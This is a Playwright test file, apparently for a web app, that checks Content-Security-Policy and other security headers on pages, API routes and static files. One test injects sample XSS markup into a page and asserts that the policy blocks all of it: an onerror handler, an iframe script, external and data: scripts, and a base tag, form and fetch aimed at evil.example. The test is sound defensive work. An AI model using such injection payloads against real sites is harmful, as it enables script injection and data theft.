import { createHash } from 'node:crypto'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect } from '@playwright/test'
import { defaultLocale } from '@quayso/games/locale'
import { addressOf, fillTurns, hydrated } from '@quayso/stack/browser/open-page'
import { sitePages } from '@quayso/stack/browser/pages'
import { clientDir } from '@quayso/stack/paths'
import { desk } from '../../support/sizes.ts'
import { test } from '../../support/stack.ts'

test.use(desk)

type Headers = Readonly<Record<string, string>>

/** The directives of a policy by name. */
function directives({ 'content-security-policy': policy = '' }: Headers): Map<string, string> {
  return new Map(policy.split('; ').map((directive) => [directive.split(' ')[0] ?? '', directive]))
}

/** The headers of every answer. */
function expectSecurityHeaders(headers: Headers, of: string) {
  expect.soft(headers['x-content-type-options'], of).toBe('nosniff')
  expect.soft(headers['cross-origin-resource-policy'], of).toMatch(/^(same-origin|cross-origin)$/)
  expect.soft(headers['set-cookie'], of).toBeUndefined()
  expect.soft(headers['x-powered-by'], of).toBeUndefined()
  expect.soft(headers.server, of).toBe('nginx')
  const policy = directives(headers)
  expect.soft(policy.get('default-src'), of).toBe(`default-src 'none'`)
  expect.soft(policy.has('frame-ancestors'), of).toBe(true)
  expect.soft(headers['content-security-policy'], of).not.toContain('unsafe')
}

const isPublic = /^\/(widget|og)\b/

test('[SAFE-01, SAFE-02] every page allows only the scripts and styles that the server rendered', async ({
  request,
  stack,
}) => {
  for (const sitePage of sitePages) {
    const of = sitePage.name
    const response = await request.get(await addressOf(stack.url, sitePage, defaultLocale))
    const headers = response.headers()
    expectSecurityHeaders(headers, of)
    expect.soft(headers['cross-origin-opener-policy'], of).toBe('same-origin')
    expect.soft(headers['referrer-policy'], of).toBe('strict-origin-when-cross-origin')
    expect.soft(headers['permissions-policy'], of).toContain('camera=()')
    const policy = directives(headers)
    expect
      .soft([...policy.keys()].sort(), of)
      .toEqual([
        'base-uri',
        'connect-src',
        'default-src',
        'font-src',
        'form-action',
        'frame-ancestors',
        'img-src',
        'manifest-src',
        'script-src',
        'style-src',
      ])
    expect.soft(policy.get('connect-src'), of).toBe(`connect-src 'self'`)
    expect.soft(policy.get('base-uri'), of).toBe(`base-uri 'none'`)
    expect.soft(policy.get('form-action'), of).toBe(`form-action 'self'`)
    const nonce = /^script-src 'self' 'nonce-([\w+/=]{22,})'$/.exec(policy.get('script-src') ?? '')?.[1]
    expect.soft(nonce, of).toBeDefined()

    const html = await response.text()
    const scripts = [...html.matchAll(/<script\b([^>]*)>/g)].map(([, attributes = '']) => attributes)
    const run = scripts.filter((attributes) => !attributes.includes('application/ld+json'))
    expect.soft(run.length, of).toBeGreaterThan(1)
    for (const attributes of run) expect.soft(attributes, of).toContain(`nonce="${nonce}"`)
    const styles = [...html.matchAll(/<style\b[^>]*>([\s\S]*?)<\/style>/g)].map(([, css = '']) => css)
    const hashes = styles.map((css) => `'sha256-${createHash('sha256').update(css).digest('base64')}'`)
    expect.soft(policy.get('style-src'), of).toBe(`style-src 'self' ${hashes.join(' ')}`)
    // As an attribute neither would be applied.
    expect.soft(html, of).not.toMatch(/<[^>]* (style|on\w+)=/)
  }
})

test('[SAFE-01] no two renderings of a page have the same nonce', async ({ request }) => {
  const nonceOf = async (path: string) => directives((await request.get(path)).headers()).get('script-src')
  const paths = ['/', '/?day=all', '/?type=vip', '/contact', '/login', '/login']
  expect(new Set(await Promise.all(paths.map(nonceOf))).size).toBe(paths.length)
})

/** An injected markup: each part tries something that the policy forbids. */
const markup = `<img src="data:," onerror="document.title='run'"><p style="color: rgb(1, 2, 3)">x</p>
  <style>body { color: rgb(1, 2, 3) }</style><base href="https://evil.example/">
  <iframe srcdoc="<script>parent.document.title = 'run'</script>"></iframe>
  <form action="https://evil.example/"><button>send</button></form>`
const forbidden = [
  'base-uri',
  'connect-src',
  'form-action',
  'script-src-attr',
  'script-src-elem',
  'style-src-attr',
  'style-src-elem',
]

test('[SAFE-01] injected markup runs no script and applies no style', async ({ browser, stack }) => {
  // A separate context: violations of the policy are expected here.
  const context = await browser.newContext({ baseURL: stack.url })
  const page = await context.newPage()
  const violated = new Set<string>()
  await page.exposeFunction('violate', (directive: string) => violated.add(directive))
  await page.goto('/contact')
  await hydrated(page)
  await page.evaluate(async (html) => {
    const { violate } = window as unknown as { violate: (directive: string) => void }
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violate(effectiveDirective))
    const written = document.createElement('div')
    written.innerHTML = html
    document.body.append(written)
    for (const script of [
      { textContent: `document.title = 'run'` },
      { src: 'https://evil.example/x.js' },
      { src: `data:text/javascript,document.title = 'run'` },
    ])
      document.body.append(Object.assign(document.createElement('script'), script))
    written.querySelector('button')?.click()
    await fetch('https://evil.example/').catch(() => undefined)
  }, markup)
  await expect.poll(() => [...violated].sort()).toEqual(forbidden)
  // Without locators: they would wait for the form's navigation, which never happens.
  const { title, color, baseURI } = await page.evaluate(() => {
    const { title, baseURI } = document
    return { title, color: getComputedStyle(document.body).color, baseURI }
  })
  expect(title).not.toBe('run')
  expect(color).not.toBe('rgb(1, 2, 3)')
  expect(baseURI).toBe(`${stack.url}/contact`)
  await context.close()
})

const { paths } = JSON.parse(readFileSync(new URL('../../../../docs/openapi.json', import.meta.url), 'utf8')) as {
  readonly paths: Readonly<Record<string, Readonly<Record<string, unknown>>>>
}

test('[SAFE-02] every call answers with the security headers, also on errors', async ({ request }) => {
  for (const [path, methods] of Object.entries(paths)) {
    const address = path
      .replace('{code}', 'mb')
      .replace('{codes}', 'mb,st60')
      .replace(/\{\w+\}/, '1')
    for (const method of Object.keys(methods)) {
      const response = await request.fetch(address, { method, ...(method === 'post' && { data: {} }) })
      expect(response.status(), path).toBeLessThan(500)
      expectSecurityHeaders(response.headers(), `${method} ${path}`)
      expect(directives(response.headers()).get('frame-ancestors'), path).toBe(`frame-ancestors 'none'`)
    }
  }
})

test('[SAFE-02] files, pictures, feeds, page data and missing paths have the security headers', async ({
  request,
  stack,
}) => {
  const assets = readdirSync(join(clientDir, 'assets'))
  const asset = (end: string) => `/assets/${assets.find((name) => name.endsWith(end))}`
  for (const path of [
    ...[asset('.js'), asset('.css'), asset('.woff2'), '/favicon.svg', '/favicon.ico', '/assets/none.js'],
    ...[
      '/robots.txt',
      '/sitemap.xml',
      '/feed/mb.xml',
      '/widget/mb',
      '/widget/none',
      '/widget.js',
      '/widget-live.js',
      '/sw.js',
    ],
    ...['/_.data', '/contact.data', '/no/such/page', '/api/none', '/api/docs', '/api/docs/openapi.json', '/log/key'],
    ...['/media/none.webp', await fillTurns(stack.url, '/og/mb/{mb}.png'), '/live?codes=none'],
  ]) {
    const response = await request.get(path, { maxRedirects: 0, timeout: 5_000 })
    expectSecurityHeaders(response.headers(), path)
    const { 'cross-origin-resource-policy': reach } = response.headers()
    if (response.ok()) expect(reach, path).toBe(isPublic.test(path) ? 'cross-origin' : 'same-origin')
  }
})
